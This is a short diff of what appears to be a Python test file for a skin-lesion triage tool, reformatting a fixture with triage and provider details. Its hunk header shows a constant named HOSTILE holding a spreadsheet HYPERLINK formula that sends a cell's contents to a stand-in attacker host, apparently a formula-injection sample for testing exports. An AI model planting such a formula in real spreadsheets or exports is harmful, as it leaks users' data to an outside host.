@@ -21,10 +21,14 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 def result() -> TurnResult:
     return TurnResult(
-        turn_id="t-123", question="my private question", image_sha256="ab" * 32,
+        turn_id="t-123",
+        question="my private question",
+        image_sha256="ab" * 32,
         triage=Triage(tier="urgent", reason="melanoma in the set"),
-        providers={"diagnoser": ProviderRef(id="ham-cnn", version="3"),
-                   "references": [ProviderRef(id="ham-exemplars"), ProviderRef(id="sd-diffusion")]},
+        providers={
+            "diagnoser": ProviderRef(id="ham-cnn", version="3"),
+            "references": [ProviderRef(id="ham-exemplars"), ProviderRef(id="sd-diffusion")],
+        },
     )
 
 
